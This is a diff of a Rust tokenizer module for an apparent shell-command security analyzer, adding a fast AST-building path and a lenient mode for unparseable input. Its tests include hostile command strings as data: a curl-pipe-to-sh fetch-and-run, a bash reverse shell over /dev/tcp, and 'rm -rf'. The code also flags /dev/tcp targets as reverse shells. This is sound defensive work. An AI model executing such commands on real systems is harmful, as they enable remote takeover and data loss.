@@ -1,33 +1,57 @@
-//! Best-effort analysis of input the parser rejects (unterminated quotes, constructs
-//! brush-parser does not support, truncated commands): a tolerant tokenizer splits the text
-//! into commands at `;`, `&`, `&&`, `||`, `|` and newlines (outside quotes, `$(…)`, `` `…` ``
-//! and `${…}`), drops shell keywords, and runs each command through the same program
-//! handlers as parsed input, with redirections and pipes followed. Whatever it finds is a
-//! lower bound: the parse error itself is reported in `unanalysable` by the caller.
+//! A small tokenizer for the shell's simple-command subset, used two ways:
+//!
+//! - **fast path** ([`fast_program`]): input made only of simple commands, pipes, `;`, `&`,
+//!   `&&`, `||` and newlines (no compound commands, subshells, here-documents, process
+//!   substitution or `$'…'`) is turned into the same brush-parser AST the parser would build,
+//!   at a fraction of the parser's cost (about 15 µs per 100 bytes for brush-parser's
+//!   PEG parser, measured with `examples/bench_analyze.rs`). Anything outside the subset
+//!   returns `None` and goes to the parser. `tests/fast_path.rs` checks that both give the
+//!   same facts.
+//! - **best effort** ([`run`]): input the parser rejects (unterminated quotes, unsupported
+//!   constructs, truncated commands) is tokenized leniently: shell keywords and `for`/`case`
+//!   headers are dropped, parentheses separate commands, unknown redirections are skipped, and
+//!   the commands found are walked like parsed ones. The result is a lower bound; the parse
+//!   error itself is reported in `unanalysable` by the caller.
 
-use crate::analyzer::{truncate, Analyzer, Inv, EVIDENCE_MAX};
-use crate::expand::Mode;
-use crate::facts::Access;
-use crate::model::{Arg, State, Stream};
-use crate::paths;
+use brush_parser::ast;
+
+use crate::analyzer::Analyzer;
+use crate::model::{State, Stream};
 
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum Tok {
     Word(String),
-    /// A redirection operator, with its descriptor prefix (`2>`, `>>`, `<`, `&>`).
+    /// A redirection operator, with its descriptor prefix (`2>`, `>>`, `<`, `&>`, `2>&`).
     Redir(String),
     /// `|` or `|&`.
     Pipe,
-    /// `;`, `&`, `&&`, `||`, newline, `(`, `)`.
-    Sep,
+    /// `;`.
+    Seq,
+    /// A newline.
+    Newline,
+    /// `&`.
+    Async,
+    /// `&&`.
+    And,
+    /// `||`.
+    Or,
+    /// `(` or `)` outside a word.
+    Paren,
 }
 
 /// Most tokens looked at (bounds work on huge garbage input).
 const MAX_TOKENS: usize = 20_000;
 
+/// Reserved words (brush-parser's `reserved_word` rule, plus `time`, which starts a timed
+/// pipeline).
+const RESERVED: &[&str] = &[
+    "!", "{", "}", "case", "do", "done", "elif", "else", "esac", "fi", "for", "if", "in", "then",
+    "until", "while", "[[", "]]", "function", "select", "coproc", "time",
+];
+
 /// Reads a balanced `open … close` group starting after the opening character; quotes inside
-/// are skipped. Returns the index after the closing character (or the end).
-fn balanced(chars: &[char], mut i: usize, open: char, close: char) -> usize {
+/// are skipped. Returns the index after the closing character, or `None` when unterminated.
+fn balanced(chars: &[char], mut i: usize, open: char, close: char) -> Option<usize> {
     let mut depth = 1;
     while let Some(&c) = chars.get(i) {
         match c {
@@ -53,61 +77,91 @@ fn balanced(chars: &[char], mut i: usize, open: char, close: char) -> usize {
             c if c == close => {
                 depth -= 1;
                 if depth == 0 {
-                    return i + 1;
+                    return Some(i + 1);
                 }
             }
             _ => {}
         }
         i += 1;
     }
-    chars.len()
+    None
 }
 
-fn tokenize(src: &str) -> Vec<Tok> {
+/// Tokens, and whether the input used anything outside the simple subset (see the module
+/// documentation).
+fn tokenize(src: &str) -> (Vec<Tok>, bool) {
     let chars: Vec<char> = src.chars().collect();
     let mut toks = Vec::new();
     let mut cur = String::new();
+    let mut started = false;
+    let mut complex = false;
     let mut i = 0;
-    let flush = |cur: &mut String, toks: &mut Vec<Tok>| {
-        if !cur.is_empty() {
+    let flush = |cur: &mut String, started: &mut bool, toks: &mut Vec<Tok>| {
+        if *started || !cur.is_empty() {
             toks.push(Tok::Word(std::mem::take(cur)));
         }
+        *started = false;
     };
     while let Some(&c) = chars.get(i) {
         if toks.len() > MAX_TOKENS {
+            complex = true;
             break;
         }
         match c {
             ' ' | '\t' => {
-                flush(&mut cur, &mut toks);
+                flush(&mut cur, &mut started, &mut toks);
                 i += 1;
             }
-            '\n' | ';' | '(' | ')' => {
-                flush(&mut cur, &mut toks);
-                toks.push(Tok::Sep);
+            '\n' => {
+                flush(&mut cur, &mut started, &mut toks);
+                toks.push(Tok::Newline);
                 i += 1;
             }
-            '#' if cur.is_empty() => {
+            ';' => {
+                flush(&mut cur, &mut started, &mut toks);
+                if matches!(chars.get(i + 1), Some(';') | Some('&')) {
+                    complex = true;
+                }
+                toks.push(Tok::Seq);
+                i += 1;
+            }
+            '(' | ')' => {
+                flush(&mut cur, &mut started, &mut toks);
+                toks.push(Tok::Paren);
+                complex = true;
+                i += 1;
+            }
+            '#' if cur.is_empty() && !started => {
                 while chars.get(i).is_some_and(|c| *c != '\n') {
                     i += 1;
                 }
             }
             '&' => {
-                flush(&mut cur, &mut toks);
-                if chars.get(i + 1) == Some(&'>') {
-                    let app = chars.get(i + 2) == Some(&'>');
-                    toks.push(Tok::Redir(if app { "&>>".into() } else { "&>".into() }));
-                    i += if app { 3 } else { 2 };
-                } else {
-                    toks.push(Tok::Sep);
-                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
+                flush(&mut cur, &mut started, &mut toks);
+                match (chars.get(i + 1), chars.get(i + 2)) {
+                    (Some('>'), Some('>')) => {
+                        toks.push(Tok::Redir("&>>".into()));
+                        i += 3;
+                    }
+                    (Some('>'), _) => {
+                        toks.push(Tok::Redir("&>".into()));
+                        i += 2;
+                    }
+                    (Some('&'), _) => {
+                        toks.push(Tok::And);
+                        i += 2;
+                    }
+                    _ => {
+                        toks.push(Tok::Async);
+                        i += 1;
+                    }
                 }
             }
             '|' => {
-                flush(&mut cur, &mut toks);
+                flush(&mut cur, &mut started, &mut toks);
                 match chars.get(i + 1) {
                     Some('|') => {
-                        toks.push(Tok::Sep);
+                        toks.push(Tok::Or);
                         i += 2;
                     }
                     Some('&') => {
@@ -122,22 +176,24 @@ fn tokenize(src: &str) -> Vec<Tok> {
             }
             '<' | '>' => {
                 if chars.get(i + 1) == Some(&'(') {
-                    // Process substitution: keep as a word.
-                    let end = balanced(&chars, i + 2, '(', ')');
+                    // Process substitution.
+                    complex = true;
+                    let end = balanced(&chars, i + 2, '(', ')').unwrap_or(chars.len());
                     cur.extend(chars.get(i..end).unwrap_or(&[]));
+                    started = true;
                     i = end;
                     continue;
                 }
-                let fd = if !cur.is_empty() && cur.chars().all(|c| c.is_ascii_digit()) {
+                let fd = if !cur.is_empty() && !started && cur.chars().all(|c| c.is_ascii_digit()) {
                     std::mem::take(&mut cur)
                 } else {
-                    flush(&mut cur, &mut toks);
+                    flush(&mut cur, &mut started, &mut toks);
                     String::new()
                 };
                 let mut op = format!("{fd}{c}");
                 i += 1;
                 while let Some(&n) = chars.get(i) {
-                    if (n == '>' || n == '<' || n == '&' || n == '|') && op.len() < fd.len() + 3 {
+                    if matches!(n, '>' | '<' | '&' | '|') && op.len() < fd.len() + 3 {
                         op.push(n);
                         i += 1;
                     } else {
@@ -147,13 +203,13 @@ fn tokenize(src: &str) -> Vec<Tok> {
                 toks.push(Tok::Redir(op));
             }
             '\\' => {
-                cur.push(c);
-                if let Some(&n) = chars.get(i + 1) {
-                    if n != '\n' {
+                match chars.get(i + 1) {
+                    Some('\n') => {}
+                    Some(&n) => {
+                        cur.push('\\');
                         cur.push(n);
-                    } else {
-                        cur.pop();
                     }
+                    None => cur.push('\\'),
                 }
                 i += 2;
             }
@@ -163,11 +219,15 @@ fn tokenize(src: &str) -> Vec<Tok> {
                 while chars.get(i).is_some_and(|c| *c != '\'') {
                     i += 1;
                 }
+                if i >= chars.len() {
+                    complex = true;
+                }
                 let end = (i + 1).min(chars.len());
                 cur.extend(chars.get(start..end).unwrap_or(&[]));
                 if i >= chars.len() {
                     cur.push('\'');
                 }
+                started = true;
                 i = end;
             }
             '"' | '`' => {
@@ -181,21 +241,55 @@ fn tokenize(src: &str) -> Vec<Tok> {
                     if d == c {
                         break;
                     }
+                    if c == '"' && d == '`' {
+                        complex = true;
+                    }
                     if c == '"' && d == '$' && chars.get(i + 1) == Some(&'(') {
-                        i = balanced(&chars, i + 2, '(', ')');
+                        match balanced(&chars, i + 2, '(', ')') {
+                            Some(e) => {
+                                if subst_is_complex(&chars, i + 2, e) {
+                                    complex = true;
+                                }
+                                i = e;
+                            }
+                            None => {
+                                complex = true;
+                                i = chars.len();
+                            }
+                        }
                         continue;
                     }
                     i += 1;
+                }
+                if i >= chars.len() {
+                    complex = true;
                 }
                 let end = (i + 1).min(chars.len());
                 cur.extend(chars.get(start..end).unwrap_or(&[]));
                 if i >= chars.len() {
                     cur.push(c);
                 }
+                started = true;
                 i = end;
             }
+            '$' if chars.get(i + 1) == Some(&'\'') => {
+                complex = true;
+                cur.push('$');
+                i += 1;
+            }
             '$' if chars.get(i + 1) == Some(&'(') => {
-                let end = balanced(&chars, i + 2, '(', ')');
+                let end = match balanced(&chars, i + 2, '(', ')') {
+                    Some(e) => {
+                        if subst_is_complex(&chars, i + 2, e) {
+                            complex = true;
+                        }
+                        e
+                    }
+                    None => {
+                        complex = true;
+                        chars.len()
+                    }
+                };
                 cur.extend(chars.get(i..end).unwrap_or(&[]));
                 if end >= chars.len() && !cur.ends_with(')') {
                     cur.push(')');
@@ -203,7 +297,10 @@ fn tokenize(src: &str) -> Vec<Tok> {
                 i = end;
             }
             '$' if chars.get(i + 1) == Some(&'{') => {
-                let end = balanced(&chars, i + 2, '{', '}');
+                let end = balanced(&chars, i + 2, '{', '}').unwrap_or_else(|| {
+                    complex = true;
+                    chars.len()
+                });
                 cur.extend(chars.get(i..end).unwrap_or(&[]));
                 i = end;
             }
@@ -213,219 +310,276 @@ fn tokenize(src: &str) -> Vec<Tok> {
             }
         }
     }
-    flush(&mut cur, &mut toks);
-    toks
+    flush(&mut cur, &mut started, &mut toks);
+    (toks, complex)
 }
 
-const KEYWORDS: &[&str] = &[
-    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "{", "}", "!", "time",
-    "esac", "in", "function", "select", "coproc",
-];
-
-/// One command of a pipeline: words and redirections (operator, target).
-#[derive(Default)]
-struct Cmd {
-    words: Vec<String>,
-    redirs: Vec<(String, String)>,
+/// A `$(…)` body the simple bracket matcher may have cut wrongly (`case` patterns have
+/// unbalanced `)`), or holding a comment (which may hide a `)`).
+fn subst_is_complex(chars: &[char], start: usize, end: usize) -> bool {
+    let body: String = chars.get(start..end).unwrap_or(&[]).iter().collect();
+    body.contains("case") || body.contains('#')
 }
 
-/// Splits tokens into pipelines of commands.
-fn group(toks: Vec<Tok>) -> Vec<Vec<Cmd>> {
-    let mut out: Vec<Vec<Cmd>> = Vec::new();
-    let mut pipeline: Vec<Cmd> = Vec::new();
-    let mut cmd = Cmd::default();
+/// `NAME=…` or `NAME+=…` (a scalar assignment word): the name, whether it appends, and the
+/// value as written.
+fn assignment(w: &str) -> Option<(&str, bool, &str)> {
+    let eq = w.find('=')?;
+    let head = w.get(..eq)?;
+    let (name, append) = match head.strip_suffix('+') {
+        Some(n) => (n, true),
+        None => (head, false),
+    };
+    let mut cs = name.chars();
+    let first = cs.next()?;
+    if !(first.is_ascii_alphabetic() || first == '_') || !cs.all(|c| c.is_ascii_alphanumeric() || c == '_') {
+        return None;
+    }
+    Some((name, append, w.get(eq + 1..).unwrap_or("")))
+}
+
+/// `NAME[…]=` (an array element assignment): not handled by the tokenizer.
+fn array_assignment(w: &str) -> bool {
+    match (w.find('['), w.find('=')) {
+        (Some(b), Some(e)) => b < e && w.get(..b).is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')),
+        _ => false,
+    }
+}
+
+/// The AST redirection for an operator and its target, as brush-parser builds it.
+fn redirect(op: &str, target: &str) -> Option<ast::IoRedirect> {
+    use ast::IoFileRedirectKind as K;
+    use ast::IoFileRedirectTarget as T;
+    let digits = op.chars().take_while(|c| c.is_ascii_digit()).count();
+    let fd: Option<ast::IoFd> = if digits > 0 { op.get(..digits)?.parse().ok() } else { None };
+    let kind = op.get(digits..)?;
+    let w = || ast::Word::from(target.to_string());
+    Some(match kind {
+        "<" => ast::IoRedirect::File(fd, K::Read, T::Filename(w())),
+        "<&" => ast::IoRedirect::File(fd, K::DuplicateInput, T::Duplicate(w())),
+        ">" => ast::IoRedirect::File(fd, K::Write, T::Filename(w())),
+        ">&" => ast::IoRedirect::File(fd, K::DuplicateOutput, T::Duplicate(w())),
+        ">>" => ast::IoRedirect::File(fd, K::Append, T::Filename(w())),
+        "<>" => ast::IoRedirect::File(fd, K::ReadAndWrite, T::Filename(w())),
+        ">|" => ast::IoRedirect::File(fd, K::Clobber, T::Filename(w())),
+        "&>" if fd.is_none() => ast::IoRedirect::OutputAndError(w(), false),
+        "&>>" if fd.is_none() => ast::IoRedirect::OutputAndError(w(), true),
+        "<<<" => ast::IoRedirect::HereString(fd, w()),
+        _ => return None,
+    })
+}
+
+/// Builds a program from tokens. `strict`: `None` for anything outside the simple subset;
+/// lenient: skip what cannot be represented.
+fn build(toks: Vec<Tok>, strict: bool) -> Option<ast::Program> {
+    use ast::CommandPrefixOrSuffixItem as I;
+    let mut items: Vec<ast::CompoundListItem> = Vec::new();
+    let mut and_or: Option<ast::AndOrList> = None;
+    let mut pending_link: Option<bool> = None; // Some(true) = &&, Some(false) = ||
+    let mut pipeline: Vec<ast::Command> = Vec::new();
+    let mut prefix: Vec<I> = Vec::new();
+    let mut word: Option<ast::Word> = None;
+    let mut suffix: Vec<I> = Vec::new();
+    let mut skip_header = false;
     let mut it = toks.into_iter().peekable();
+
+    let finish_cmd = |prefix: &mut Vec<I>, word: &mut Option<ast::Word>, suffix: &mut Vec<I>, pipeline: &mut Vec<ast::Command>| -> bool {
+        if prefix.is_empty() && word.is_none() && suffix.is_empty() {
+            return false;
+        }
+        let sc = ast::SimpleCommand {
+            prefix: (!prefix.is_empty()).then(|| ast::CommandPrefix(std::mem::take(prefix))),
+            word_or_name: word.take(),
+            suffix: (!suffix.is_empty()).then(|| ast::CommandSuffix(std::mem::take(suffix))),
+        };
+        pipeline.push(ast::Command::Simple(sc));
+        true
+    };
+    // Closes the current pipeline into the and-or list; false when it was empty.
+    let finish_pipeline = |pipeline: &mut Vec<ast::Command>, and_or: &mut Option<ast::AndOrList>, link: &mut Option<bool>| -> bool {
+        if pipeline.is_empty() {
+            return false;
+        }
+        let p = ast::Pipeline {
+            timed: None,
+            bang: false,
+            seq: std::mem::take(pipeline),
+        };
+        match (and_or.as_mut(), link.take()) {
+            (Some(list), Some(true)) => list.additional.push(ast::AndOr::And(p)),
+            (Some(list), Some(false)) => list.additional.push(ast::AndOr::Or(p)),
+            (Some(list), None) => list.additional.push(ast::AndOr::And(p)),
+            (None, _) => {
+                *and_or = Some(ast::AndOrList {
+                    first: p,
+                    additional: Vec::new(),
+                })
+            }
+        }
+        true
+    };
+
     while let Some(t) = it.next() {
         match t {
             Tok::Word(w) => {
-                if cmd.words.is_empty() && KEYWORDS.contains(&w.as_str()) {
+                if skip_header {
                     continue;
                 }
-                if cmd.words.is_empty() && (w == "for" || w == "case") {
-                    // `for x in …` / `case … in`: skip to the end of the header.
-                    while let Some(n) = it.peek() {
-                        if *n == Tok::Sep {
-                            break;
-                        }
-                        it.next();
+                if word.is_none() {
+                    if let Some((name, append, value)) = assignment(&w) {
+                        let a = ast::Assignment {
+                            name: ast::AssignmentName::VariableName(name.to_string()),
+                            value: ast::AssignmentValue::Scalar(ast::Word::from(value.to_string())),
+                            append,
+                            loc: Default::default(),
+                        };
+                        prefix.push(I::AssignmentWord(a, ast::Word::from(w.clone())));
+                        continue;
                     }
+                    if array_assignment(&w) {
+                        if strict {
+                            return None;
+                        }
+                        continue;
+                    }
+                    if RESERVED.contains(&w.as_str()) {
+                        if strict {
+                            return None;
+                        }
+                        // Lenient: drop keywords; skip `for x in …` / `case … in` headers.
+                        if w == "for" || w == "case" || w == "select" {
+                            skip_header = true;
+                        }
+                        continue;
+                    }
+                    word = Some(ast::Word::from(w));
                     continue;
                 }
-                cmd.words.push(w);
+                match assignment(&w) {
+                    Some((name, append, value)) => {
+                        let a = ast::Assignment {
+                            name: ast::AssignmentName::VariableName(name.to_string()),
+                            value: ast::AssignmentValue::Scalar(ast::Word::from(value.to_string())),
+                            append,
+                            loc: Default::default(),
+                        };
+                        suffix.push(I::AssignmentWord(a, ast::Word::from(w.clone())));
+                    }
+                    None if array_assignment(&w) && strict => return None,
+                    None => suffix.push(I::Word(ast::Word::from(w))),
+                }
             }
             Tok::Redir(op) => {
+                if skip_header {
+                    continue;
+                }
                 let target = match it.peek() {
                     Some(Tok::Word(_)) => match it.next() {
                         Some(Tok::Word(w)) => w,
                         _ => String::new(),
                     },
-                    _ => String::new(),
+                    _ => {
+                        if strict {
+                            return None;
+                        }
+                        continue;
+                    }
                 };
-                cmd.redirs.push((op, target));
+                if target.contains("/dev/tcp/") || target.contains("/dev/udp/") {
+                    // Handled (reverse shells) by the parser path only.
+                    if strict {
+                        return None;
+                    }
+                }
+                match redirect(&op, &target) {
+                    Some(r) => {
+                        if word.is_none() {
+                            prefix.push(I::IoRedirect(r));
+                        } else {
+                            suffix.push(I::IoRedirect(r));
+                        }
+                    }
+                    None if strict => return None,
+                    None => {}
+                }
             }
-            Tok::Pipe => pipeline.push(std::mem::take(&mut cmd)),
-            Tok::Sep => {
-                pipeline.push(std::mem::take(&mut cmd));
-                out.push(std::mem::take(&mut pipeline));
+            Tok::Pipe => {
+                if !finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline) && strict {
+                    return None;
+                }
+            }
+            Tok::And | Tok::Or => {
+                let cmd = finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline);
+                let pipe = finish_pipeline(&mut pipeline, &mut and_or, &mut pending_link);
+                if strict && (!cmd || !pipe) {
+                    return None;
+                }
+                pending_link = Some(t == Tok::And);
+            }
+            Tok::Seq | Tok::Newline | Tok::Async | Tok::Paren => {
+                if t == Tok::Paren && strict {
+                    return None;
+                }
+                skip_header = false;
+                let cmd = finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline);
+                let had_pipe = !pipeline.is_empty();
+                if !cmd && had_pipe && strict {
+                    return None;
+                }
+                finish_pipeline(&mut pipeline, &mut and_or, &mut pending_link);
+                if pending_link.is_some() && strict {
+                    return None;
+                }
+                match and_or.take() {
+                    Some(list) => {
+                        let sep = if t == Tok::Async { ast::SeparatorOperator::Async } else { ast::SeparatorOperator::Sequence };
+                        items.push(ast::CompoundListItem(list, sep));
+                    }
+                    None => {
+                        // `; ;`, `& ;`, a leading `;`: a syntax error for the shell. A blank
+                        // line is fine.
+                        if strict && t != Tok::Newline {
+                            return None;
+                        }
+                    }
+                }
+                pending_link = None;
             }
         }
     }
-    pipeline.push(cmd);
-    out.push(pipeline);
-    out.retain(|p| {
-        p.iter()
-            .any(|c| !c.words.is_empty() || !c.redirs.is_empty())
-    });
-    out
+    let cmd = finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline);
+    let had_pipe = !pipeline.is_empty();
+    if strict && (!cmd && had_pipe) {
+        return None;
+    }
+    finish_pipeline(&mut pipeline, &mut and_or, &mut pending_link);
+    if strict && pending_link.is_some() {
+        return None;
+    }
+    if let Some(list) = and_or.take() {
+        items.push(ast::CompoundListItem(list, ast::SeparatorOperator::Sequence));
+    }
+    Some(ast::Program {
+        complete_commands: vec![ast::CompoundList(items)],
+    })
 }
 
-/// Walks `src` with the tolerant tokenizer (see the module documentation).
+/// The AST of `src` when it is made only of simple commands (see the module documentation),
+/// else `None`.
+pub(crate) fn fast_program(src: &str) -> Option<ast::Program> {
+    let (toks, complex) = tokenize(src);
+    if complex {
+        return None;
+    }
+    build(toks, true)
+}
+
+/// Walks `src` with the lenient tokenizer (see the module documentation).
 pub(crate) fn run(a: &mut Analyzer, src: &str, st: &mut State, stdin: Stream) -> Stream {
-    let mut out = Stream::text("");
-    for pipeline in group(tokenize(src)) {
-        let ev_pipe: Vec<String> = pipeline.iter().map(render).collect();
-        let saved = std::mem::replace(
-            &mut a.pipeline_ev,
-            truncate(&ev_pipe.join(" | "), EVIDENCE_MAX),
-        );
-        let multi = pipeline.len() > 1;
-        let mut cur = stdin.clone();
-        for (i, cmd) in pipeline.iter().enumerate() {
-            if i > 0 {
-                cur.piped = true;
-            }
-            if multi {
-                let mut sub = st.clone();
-                cur = command(a, cmd, &mut sub, cur);
-            } else {
-                cur = command(a, cmd, st, cur);
-            }
-        }
-        a.pipeline_ev = saved;
-        out = out.concat(&cur);
-    }
-    out
-}
-
-fn render(c: &Cmd) -> String {
-    let mut parts = c.words.clone();
-    for (op, t) in &c.redirs {
-        parts.push(format!("{op}{t}"));
-    }
-    parts.join(" ")
-}
-
-fn is_assignment(w: &str) -> Option<(&str, &str)> {
-    let (n, v) = w.split_once('=')?;
-    let n = n.strip_suffix('+').unwrap_or(n);
-    (!n.is_empty()
-        && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
-        && !n.starts_with(|c: char| c.is_ascii_digit()))
-    .then_some((n, v))
-}
-
-fn command(a: &mut Analyzer, cmd: &Cmd, st: &mut State, stdin: Stream) -> Stream {
-    let evidence = truncate(&crate::analyzer::escape_hidden(&render(cmd)), EVIDENCE_MAX);
-    // Redirections.
-    let mut stdin = stdin;
-    let mut stdout_file: Option<String> = None;
-    for (op, target) in &cmd.redirs {
-        if target.is_empty() || op.contains("<<") && !op.contains("<<<") {
-            continue;
-        }
-        let arg = a.expand_one(target, st, Mode::NoSplit);
-        if op.ends_with("<<<") {
-            stdin = Stream {
-                text: (!arg.dynamic).then(|| format!("{}\n", arg.text)),
-                taint: arg.taint.clone(),
-                ..Stream::default()
-            };
-            continue;
-        }
-        if op.ends_with('&')
-            || op.ends_with(">&") && target.chars().all(|c| c.is_ascii_digit() || c == '-')
-        {
-            continue;
-        }
-        let r = paths::resolve(&arg, &st.cwd);
-        if op.contains('>') {
-            a.add_path(
-                &r,
-                Access::Write,
-                &format!(
-                    "redirect {}",
-                    op.trim_start_matches(|c: char| c.is_ascii_digit())
-                ),
-                false,
-                &format!("{op} {target}"),
-            );
-            if !op.starts_with('2') {
-                stdout_file = Some(r.path.clone());
-            }
-        } else {
-            a.add_path(
-                &r,
-                Access::Read,
-                "redirect <",
-                false,
-                &format!("{op} {target}"),
-            );
-            stdin = a.file_stream(&r.path);
-        }
-    }
-    // Leading assignments.
-    let mut words = cmd.words.as_slice();
-    let mut env = Vec::new();
-    while let Some((first, rest)) = words.split_first() {
-        let Some((n, v)) = is_assignment(first) else {
-            break;
-        };
-        let arg = a.expand_one(v, st, Mode::Assign);
-        let val = crate::model::Val::from_arg(&arg);
-        a.check_env(n, &val, first);
-        env.push((n.to_string(), val));
-        words = rest;
-    }
-    let mut args: Vec<Arg> = Vec::new();
-    for w in words.iter().take(512) {
-        if w.starts_with("<(") || w.starts_with(">(") {
-            let inner = w.get(2..w.len().saturating_sub(1)).unwrap_or("");
-            let mut sub = st.clone();
-            sub.depth += 1;
-            let s = a.run_source(inner, &mut sub, Stream::default());
-            let mut arg = Arg::lit("/dev/fd/63");
-            arg.raw = w.clone();
-            if w.starts_with('<') {
-                arg.taint = s.taint.clone();
-                arg.proc_subst = Some(s);
-            }
-            args.push(arg);
-            continue;
-        }
-        args.extend(a.expand_word(w, st, Mode::Normal));
-    }
-    if args.is_empty() {
-        for (n, v) in env {
-            st.vars.insert(n, v);
-        }
-        return Stream::text("");
-    }
-    let inv = Inv {
-        args,
-        cwd: st.cwd.clone(),
-        evidence,
-        stdin,
-        wrappers: st.wrappers.clone(),
-        env,
-        decls: Vec::new(),
-    };
-    let out = a.run_inv(inv, st);
-    match stdout_file {
-        Some(f) => {
-            a.files.insert(f, out);
-            Stream::text("")
-        }
-        None => out,
+    let (toks, _) = tokenize(src);
+    match build(toks, false) {
+        Some(prog) => a.walk_program(&prog, st, stdin),
+        None => Stream::default(),
     }
 }
 
@@ -433,50 +587,41 @@ fn command(a: &mut Analyzer, cmd: &Cmd, st: &mut State, stdin: Stream) -> Stream
 mod tests {
     use super::*;
 
-    fn words(src: &str) -> Vec<Vec<Vec<String>>> {
-        group(tokenize(src))
-            .into_iter()
-            .map(|p| p.into_iter().map(|c| c.words).collect())
-            .collect()
+    fn shape(src: &str) -> Option<String> {
+        fast_program(src).map(|p| p.to_string())
     }
 
     #[test]
-    fn splits_commands_and_pipes() {
-        assert_eq!(
-            words("curl -s x | sh; echo \"unterminated"),
-            vec![
-                vec![
-                    vec!["curl".to_string(), "-s".into(), "x".into()],
-                    vec!["sh".into()]
-                ],
-                vec![vec!["echo".to_string(), "\"unterminated\"".into()]],
-            ]
-        );
+    fn simple_subset_is_recognised() {
+        assert!(shape("curl -s x | sh; echo hi && ls || true &").is_some());
+        assert!(shape("X=1 Y=2 cmd a=b 2>&1 >out <in").is_some());
+        assert!(shape("echo \"$(date) `x`\"").is_none(), "backquote in double quotes");
+        assert!(shape("if true; then ls; fi").is_none());
+        assert!(shape("(cd x && ls)").is_none());
+        assert!(shape("cat <<EOF\nx\nEOF").is_none());
+        assert!(shape("diff <(a) <(b)").is_none());
+        assert!(shape("echo \"unterminated").is_none());
+        assert!(shape("ls &&").is_none());
+        assert!(shape("| ls").is_none());
+        assert!(shape("a=(1 2)").is_none());
+        assert!(shape("echo $'\\x41'").is_none());
+        assert!(shape("bash -i >& /dev/tcp/h/1").is_none());
     }
 
     #[test]
-    fn keeps_substitutions_whole() {
-        assert_eq!(
-            words("echo $(a; b) `c | d`"),
-            vec![vec![vec![
-                "echo".to_string(),
-                "$(a; b)".into(),
-                "`c | d`".into()
-            ]]]
-        );
+    fn redirects_match_the_parser() {
+        for src in ["cmd 2>&1 >out", "cmd &>>log", "cmd <<< word", "cmd 3<>f >|g <&0", "X=1 >f cmd"] {
+            let fast = fast_program(src).map(|p| p.to_string());
+            let parsed = crate::analyzer::parse_program(src).ok().map(|p| p.to_string());
+            assert_eq!(fast, parsed, "{src}");
+        }
     }
 
     #[test]
-    fn redirections() {
-        let g = group(tokenize("echo hi 2>/dev/null >out.txt"));
-        let c = &g[0][0];
-        assert_eq!(c.words, ["echo", "hi"]);
-        assert_eq!(
-            c.redirs,
-            [
-                ("2>".to_string(), "/dev/null".to_string()),
-                (">".to_string(), "out.txt".to_string())
-            ]
-        );
+    fn lenient_mode_keeps_commands() {
+        let (toks, complex) = tokenize("if true; then rm -rf x; fi; echo \"oops");
+        assert!(complex);
+        let p = build(toks, false).map(|p| p.to_string()).unwrap_or_default();
+        assert!(p.contains("rm -rf x"), "{p}");
     }
 }
